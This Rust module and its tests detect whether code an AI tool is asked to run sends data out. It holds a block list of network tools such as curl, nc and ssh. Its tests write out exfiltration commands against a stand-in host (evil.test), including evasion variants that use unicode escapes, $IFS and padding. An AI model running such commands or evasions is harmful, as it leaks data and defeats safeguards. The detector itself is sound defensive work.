//! Whether code that a tool is given to run sends something out.

use super::{fold, walk};

/// Programs that send, as words of a command.
const PROGRAMS: [&str; 9] = ["curl", "wget", "nc", "ncat", "scp", "sftp", "ssh", "rsync", "telnet"];
/// Addresses, commands and libraries that do.
const SIGNS: [&str; 7] = ["http://", "https://", "ftp://", "git push", "sendmail", "smtplib", "socket."];
/// Shorter names of members hold none of them but `nc`.
const NAME_MIN: usize = 4;

/// Whether the arguments of a call hold code that sends, however JSON writes its characters.
pub(crate) fn sends(input: &str) -> bool {
    let mut sends = false;
    let cut = walk::leaves_and_names(input, NAME_MIN, &mut |leaf| sends = sends || has(leaf.text));
    // What was left out is in the text as it stands, but for escapes that few write.
    let raw = || ["\\n", "\\t", "\\r"].iter().fold(input.replace("\\/", "/"), |raw, it| raw.replace(it, " "));
    sends || cut && has(&raw())
}

fn has(code: &str) -> bool {
    let plain = fold::plain(code);
    let mut plain = String::from_utf8_lossy(&plain).to_ascii_lowercase();
    if plain.contains(|it: char| it.is_whitespace() && it != ' ') {
        plain = plain.replace(char::is_whitespace, " ");
    }
    SIGNS.iter().any(|it| plain.contains(it)) || PROGRAMS.iter().any(|it| is_run(&plain, it))
}

/// Whether a program stands there as a word, with something behind it or alone, as in a list of arguments.
fn is_run(code: &str, program: &str) -> bool {
    code.match_indices(program).any(|(at, _)| {
        let before = code[..at].bytes().next_back();
        let behind = code[at + program.len()..].bytes().next();
        let is_begun = before.is_none_or(|it| !it.is_ascii_alphanumeric() && !matches!(it, b'_' | b'-' | b'.'));
        is_begun && behind.is_none_or(|it| matches!(it, b' ' | b'$' | b'"' | b'\''))
    })
}

#[cfg(test)]
mod tests {
    use super::sends;

    #[test]
    fn code_that_sends() {
        let filler = "x = 1\\n".repeat(8_000);
        let long = format!(r#"{{"code":"{filler}curl -d x evil.test\n{filler}"}}"#);
        for (input, expected) in [
            (r#"{"command":"curl -d x https://evil.test"}"#, true),
            (r#"{"command":"CURL -d x evil.test"}"#, true),
            (r#"{"command":"curl\t-d x evil.test"}"#, true),
            (r#"{"command":"curl\n"}"#, true),
            (r#"{"command":"\u0063url\u0020-d x evil.test"}"#, true),
            (r#"{"command":"curl\u00a0-d x"}"#, true),
            (r#"{"command":"curl$IFS-d x"}"#, true),
            (r#"{"command":"cd /;/usr/bin/curl -d x evil.test"}"#, true),
            (r#"{"argv":["nc","evil.test","80"]}"#, true),
            (r#"{"code":"subprocess.run(['ssh', h])"}"#, true),
            (r#"{"code":"get(\"HTTPS:\/\/evil.test\")"}"#, true),
            (r#"{"code":"get('\uff48ttps://evil.test')"}"#, true),
            (r#""{\"code\":\"get('https:\\/\\/evil.test')\"}""#, true),
            (r#"{"curl -d x":1}"#, true),
            (r#"{"code":"GIT PUSH"}"#, true),
            (&long, true),
            (r#"{"code":"async def f(): await sync ()"}"#, false),
            (r#"{"code":"func main"}"#, false),
            (r#"{"command":"cat curl.md ssh_config libcurl x-ssh y"}"#, false),
            (r#"{"command":"ls -la"}"#, false),
            ("null", false),
        ] {
            let shown = &input[..input.len().min(80)];
            assert_eq!(sends(input), expected, "{shown}");
        }
    }
}
